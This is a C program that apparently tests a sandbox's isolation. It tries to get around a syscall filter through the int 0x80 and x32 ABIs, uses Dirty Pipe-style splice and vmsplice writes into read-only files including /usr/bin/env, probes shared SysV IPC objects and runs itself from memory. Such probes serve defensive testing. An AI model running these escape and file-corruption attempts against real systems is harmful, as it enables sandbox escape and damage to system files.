/* A hostile function in C: the ways round a filter that goes by the numbers of one ABI, and into read-only pages. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/msg.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static void tried(const char *what, long r) {
	if (r >= 0) printf("WORKED %s\n", what);
	else printf("refused %s: %s\n", what, strerror(errno));
}

#ifdef __x86_64__
/* The child tries; how it ended says what came of it. */
static void by_int80(const char *what, long nr, long a) {
	pid_t p = fork();
	if (p == 0) {
		long r;
		__asm__ volatile("int $0x80" : "=a"(r) : "a"(nr), "b"(a), "c"(0), "d"(0) : "memory");
		_exit(r < 0 && r > -4096 ? 1 : 0);
	}
	int s;
	waitpid(p, &s, 0);
	if (WIFSIGNALED(s)) printf("killed int80 %s: signal %d\n", what, WTERMSIG(s));
	else printf("%s int80 %s\n", WEXITSTATUS(s) ? "refused" : "WORKED", what);
}

#define X32 0x40000000L
static void by_x32(const char *what, long nr, long a) {
	errno = 0;
	long r = syscall(X32 | nr, a, 0, 0, 0, 0, 0);
	if (r >= 0) printf("WORKED x32 %s = %ld\n", what, r);
	else printf("refused x32 %s: %s\n", what, strerror(errno));
}
#endif

/* Dirty Pipe and its kin: a page of a read-only file in a pipe, then written to. */
static void dirty(const char *path) {
	int fd = open(path, O_RDONLY), p[2];
	char was[32], is[32];
	if (fd < 0 || pipe(p)) { printf("no file\n"); return; }
	pread(fd, was, sizeof was, 0);
	int size = fcntl(p[1], F_GETPIPE_SZ);
	static char fill[4096];
	for (int n = size; n > 0; n -= sizeof fill) if (write(p[1], fill, sizeof fill) < 0) break;
	for (int n = size; n > 0; n -= sizeof fill) if (read(p[0], fill, sizeof fill) < 0) break;
	loff_t off = 0;
	if (splice(fd, &off, p[1], NULL, 1, 0) < 1) printf("no splice: %s\n", strerror(errno));
	else if (write(p[1], "OWNED!OWNED!", 12) < 0) printf("no write\n");
	/* A page that was given away and is written to afterwards. */
	char *page = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
	struct iovec v = {page, 16};
	int q[2];
	if (page != MAP_FAILED && !pipe(q) && vmsplice(q[1], &v, 1, 1 /* SPLICE_F_GIFT */) > 0) {
		char junk[16];
		read(q[0], junk, 1);
		write(q[1], "OWNED!", 6);
	}
	if (page != MAP_FAILED) tried("a writable protection of a shared page", mprotect(page, 4096, PROT_READ | PROT_WRITE));
	pread(fd, is, sizeof is, 0);
	printf("%s read-only page\n", memcmp(was, is, sizeof was) ? "WORKED changed a" : "unchanged");
}

int main(int argc, char **argv) {
	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc > 1 && !strcmp(argv[1], "again")) { printf("ran from memory\n"); return 0; }
	/* What other instances left in the namespace of SysV keys: nothing. Then leave something. */
	tried("another's shared memory", shmget(0x646f7a65, 4096, 0));
	tried("another's semaphores", semget(0x646f7a65, 1, 0));
	tried("another's messages", msgget(0x646f7a65, 0));
	printf("own SysV %d %d %d\n", shmget(0x646f7a65, 4096, IPC_CREAT | 0666) >= 0, semget(0x646f7a65, 1, IPC_CREAT | 0666) >= 0, msgget(0x646f7a65, IPC_CREAT | 0666) >= 0);
#ifdef __x86_64__
	by_int80("getpid", 20, 0);
	by_int80("unshare", 310, 0x10000000);
	by_int80("ptrace", 26, 0);
	by_int80("mount", 21, 0);
	by_int80("reboot", 88, 0);
	by_x32("getpid", SYS_getpid, 0);
	by_x32("unshare", SYS_unshare, 0x10000000);
	by_x32("ptrace", 521, 0);
	by_x32("mount", SYS_mount, 0);
	by_x32("keyctl", SYS_keyctl, 0);
	by_x32("bpf", SYS_bpf, 0);
	by_x32("execve", 520, 0);
	by_x32("process_vm_readv", 539, 0);
	by_x32("io_uring_setup", SYS_io_uring_setup, 1);
	tried("a number with high bits", syscall(SYS_unshare | 0x100000000L, 0x10000000));
#endif
	tried("a number that is none", syscall(99999, 0));
	tried("vm: a mapping at zero", (long)(intptr_t)mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) == -1 ? -1 : 0);
	tried("personality READ_IMPLIES_EXEC", syscall(SYS_personality, 0x0400000));
	dirty("/var/task/target");
	dirty("/usr/bin/env");
	/* Programs from memory are ordinary: they have no more rights than the one that made them. */
	fflush(stdout);
	int m = memfd_create("again", 0), self = open("/proc/self/exe", O_RDONLY);
	static char b[65536];
	for (ssize_t n; (n = read(self, b, sizeof b)) > 0;) if (write(m, b, n) != n) return 1;
	if (fork() == 0) { char *a[] = {"abi", "again", NULL}, *e[] = {NULL}; fexecve(m, a, e); printf("memfd did not run: %s\n", strerror(errno)); _exit(1); }
	wait(NULL);
	printf("done\n");
	return 0;
}
